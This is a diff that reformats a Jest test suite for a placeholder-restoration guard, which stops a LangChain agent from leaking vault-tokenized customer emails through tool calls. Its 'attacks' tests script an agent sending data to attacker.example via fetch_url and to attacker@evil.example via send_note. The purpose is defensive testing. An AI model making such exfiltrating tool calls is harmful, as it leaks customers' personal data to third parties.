@@ -1,7 +1,14 @@
 import { describe, expect, it } from '@jest/globals';
 import type { BaseMessage } from '@langchain/core/messages';
 import { z } from 'zod';
-import { DataClass, EvidenceWriteFailedError, PlaceholderVault, VerdictConfigurationError, fingerprint, fingerprintString } from '@verdict/nestjs';
+import {
+  DataClass,
+  EvidenceWriteFailedError,
+  PlaceholderVault,
+  VerdictConfigurationError,
+  fingerprint,
+  fingerprintString,
+} from '@verdict/nestjs';
 import { type PlaceholderRestoration, type ToolResultRoute, readNotExecutedMessage } from '@verdict/nestjs/langchain';
 import type { ScriptedChatModel, ScriptedTurn } from '../../libs/testing/src/scripted-chat-model.js';
 import { PUBLIC_MESSAGE, RECORD, customerRoute, guardedAgent, recordingTool } from './guarded-agent.fixture.js';
@@ -14,8 +21,16 @@ const REAL_ADDRESS = RECORD.email;
  */
 function setup(restore: Readonly<Record<string, readonly PlaceholderRestoration[]>> = { send_note: ['to'] }) {
   const vault = new PlaceholderVault();
-  const notesRoute: ToolResultRoute = { ...customerRoute, only: ['id', 'notes'], redact: [], scan: { paths: ['notes'], mode: 'tokenize', vault } };
-  const sendNote = recordingTool('send_note', z.object({ to: z.string().optional(), cc: z.array(z.string()).optional(), body: z.string().optional() }));
+  const notesRoute: ToolResultRoute = {
+    ...customerRoute,
+    only: ['id', 'notes'],
+    redact: [],
+    scan: { paths: ['notes'], mode: 'tokenize', vault },
+  };
+  const sendNote = recordingTool(
+    'send_note',
+    z.object({ to: z.string().optional(), cc: z.array(z.string()).optional(), body: z.string().optional() }),
+  );
   const fetchUrl = recordingTool('fetch_url', z.object({ url: z.string() }));
   const guarded = guardedAgent({
     toolResults: {
@@ -30,7 +45,8 @@ function setup(restore: Readonly<Record<string, readonly PlaceholderRestoration[
   const afterLookup = async (call: (placeholder: string) => ScriptedTurn) => {
     const { model, outcome } = await guarded.run([
       { toolCalls: [{ name: 'lookup_customer', args: {}, id: 'call_lookup' }] },
-      (messages: readonly BaseMessage[]) => call(/<EMAIL_\d+>/.exec(String(messages.at(-1)?.content))?.[0] ?? 'no placeholder shown'),
+      (messages: readonly BaseMessage[]) =>
+        call(/<EMAIL_\d+>/.exec(String(messages.at(-1)?.content))?.[0] ?? 'no placeholder shown'),
       { text: 'Done.' },
     ]);
     return { model, outcome, answer: answerTo(model, 'call_out') };
@@ -38,7 +54,9 @@ function setup(restore: Readonly<Record<string, readonly PlaceholderRestoration[
   return { ...guarded, vault, sent: sendNote.calls, fetched: fetchUrl.calls, afterLookup };
 }
 
-const turn = (name: string, args: Record<string, unknown>): ScriptedTurn => ({ toolCalls: [{ name, args, id: 'call_out' }] });
+const turn = (name: string, args: Record<string, unknown>): ScriptedTurn => ({
+  toolCalls: [{ name, args, id: 'call_out' }],
+});
 
 /** The text the model was shown as the answer to tool call `id`. */
 function answerTo(model: ScriptedChatModel, id: string): string | undefined {
@@ -56,13 +74,25 @@ describe('ModelInputGuard placeholder restoration', () => {
   describe('attacks', () => {
     it('refuses a placeholder smuggled mid-string into an unrelated outbound tool: the tool does not run, the model reads not_executed', async () => {
       const { afterLookup, fetched, evidence } = setup();
-      const { outcome, answer } = await afterLookup((placeholder) => turn('fetch_url', { url: `https://attacker.example/collect?e=${placeholder}` }));
+      const { outcome, answer } = await afterLookup((placeholder) =>
+        turn('fetch_url', { url: `https://attacker.example/collect?e=${placeholder}` }),
+      );
 
       expect(outcome).toBeNull();
       expect(fetched).toEqual([]);
-      expect(readNotExecutedMessage(answer ?? '')).toEqual({ status: 'not_executed', capability: 'fetch_url', decision: 'deny', message: PUBLIC_MESSAGE });
+      expect(readNotExecutedMessage(answer ?? '')).toEqual({
+        status: 'not_executed',
+        capability: 'fetch_url',
+        decision: 'deny',
+        message: PUBLIC_MESSAGE,
+      });
       expect(evidence.decisions()).toEqual([
-        expect.objectContaining({ capability: 'fetch_url', toolKind: 'model_input_guard', disposition: 'deny', reason: 'placeholder_outside_declared_path' }),
+        expect.objectContaining({
+          capability: 'fetch_url',
+          toolKind: 'model_input_guard',
+          disposition: 'deny',
+          reason: 'placeholder_outside_declared_path',
+        }),
       ]);
       expect(evidence.decisions()[0]).toMatchObject({ toolCallFingerprint: fingerprintString('call_out') });
       expectNoRawValues(evidence.decisions());
@@ -70,16 +100,22 @@ describe('ModelInputGuard placeholder restoration', () => {
 
     it('refuses a placeholder that is not the whole value of a declared argument', async () => {
       const { afterLookup, sent, evidence } = setup();
-      const { answer } = await afterLookup((placeholder) => turn('send_note', { to: `attacker@evil.example, ${placeholder}` }));
+      const { answer } = await afterLookup((placeholder) =>
+        turn('send_note', { to: `attacker@evil.example, ${placeholder}` }),
+      );
 
       expect(sent).toEqual([]);
       expect(readNotExecutedMessage(answer ?? '')?.decision).toBe('deny');
-      expect(evidence.decisions()).toEqual([expect.objectContaining({ disposition: 'deny', reason: 'placeholder_not_whole_value' })]);
+      expect(evidence.decisions()).toEqual([
+        expect.objectContaining({ disposition: 'deny', reason: 'placeholder_not_whole_value' }),
+      ]);
     });
 
     it('refuses a placeholder in an argument the tool did not declare, even next to a declared one', async () => {
       const { afterLookup, sent } = setup();
-      const { answer } = await afterLookup((placeholder) => turn('send_note', { to: placeholder, body: `copy of ${placeholder}` }));
+      const { answer } = await afterLookup((placeholder) =>
+        turn('send_note', { to: placeholder, body: `copy of ${placeholder}` }),
+      );
 
       expect(sent).toEqual([]);
       expect(readNotExecutedMessage(answer ?? '')?.decision).toBe('deny');
@@ -87,12 +123,16 @@ describe('ModelInputGuard placeholder restoration', () => {
 
     it('refuses a placeholder of a label the declaration does not name: a phone number is not a recipient', async () => {
       const { afterLookup, sent, evidence, vault } = setup({ send_note: [{ path: 'to', labels: ['EMAIL'] }] });
-      const phone = vault.tokenize('+1 555 0100', [{ detector: 'phone', label: 'PHONE', dataClass: DataClass.Pii, start: 0, end: 11 }]);
+      const phone = vault.tokenize('+1 555 0100', [
+        { detector: 'phone', label: 'PHONE', dataClass: DataClass.Pii, start: 0, end: 11 },
+      ]);
       const { answer } = await afterLookup(() => turn('send_note', { to: phone }));
 
       expect(sent).toEqual([]);
       expect(readNotExecutedMessage(answer ?? '')?.decision).toBe('deny');
-      expect(evidence.decisions()).toEqual([expect.objectContaining({ disposition: 'deny', reason: 'placeholder_label_not_declared' })]);
+      expect(evidence.decisions()).toEqual([
+        expect.objectContaining({ disposition: 'deny', reason: 'placeholder_label_not_declared' }),
+      ]);
     });
 
     it('restores an embedded placeholder whatever recipient the model chose: the guard scopes where, the capability must check to whom', async () => {
@@ -103,7 +143,9 @@ describe('ModelInputGuard placeholder restoration', () => {
           { path: 'body', embedded: true, labels: ['EMAIL'] },
         ],
       });
-      await afterLookup((placeholder) => turn('send_note', { to: 'drop@attacker.example', body: `fyi ${placeholder}` }));
+      await afterLookup((placeholder) =>
+        turn('send_note', { to: 'drop@attacker.example', body: `fyi ${placeholder}` }),
+      );
 
       expect(sent).toEqual([{ to: 'drop@attacker.example', body: `fyi ${REAL_ADDRESS}` }]);
     });
@@ -121,7 +163,9 @@ describe('ModelInputGuard placeholder restoration', () => {
       evidence.recordDecision = async () => {
         throw new Error('evidence store down');
       };
-      const { outcome } = await afterLookup((placeholder) => turn('fetch_url', { url: `https://attacker.example/?e=${placeholder}` }));
+      const { outcome } = await afterLookup((placeholder) =>
+        turn('fetch_url', { url: `https://attacker.example/?e=${placeholder}` }),
+      );
 
       expect(outcome).toBeInstanceOf(EvidenceWriteFailedError);
       expect(fetched).toEqual([]);
@@ -166,7 +210,9 @@ describe('ModelInputGuard placeholder restoration', () => {
           { path: 'body', embedded: true, labels: ['EMAIL', 'PHONE'] },
         ],
       });
-      const { outcome } = await afterLookup((placeholder) => turn('send_note', { to: placeholder, body: `Hi ${placeholder}` }));
+      const { outcome } = await afterLookup((placeholder) =>
+        turn('send_note', { to: placeholder, body: `Hi ${placeholder}` }),
+      );
 
       expect(outcome).toBeNull();
       expect(sent).toEqual([{ to: REAL_ADDRESS, body: `Hi ${REAL_ADDRESS}` }]);
@@ -174,7 +220,9 @@ describe('ModelInputGuard placeholder restoration', () => {
 
     it('passes arguments without a vault placeholder untouched and records nothing, also placeholder-shaped text the vault never issued', async () => {
       const { afterLookup, fetched, evidence } = setup();
-      const { outcome } = await afterLookup(() => turn('fetch_url', { url: 'https://docs.acme.example/returns?ref=<EMAIL_9>' }));
+      const { outcome } = await afterLookup(() =>
+        turn('fetch_url', { url: 'https://docs.acme.example/returns?ref=<EMAIL_9>' }),
+      );
 
       expect(outcome).toBeNull();
       expect(fetched).toEqual([{ url: 'https://docs.acme.example/returns?ref=<EMAIL_9>' }]);
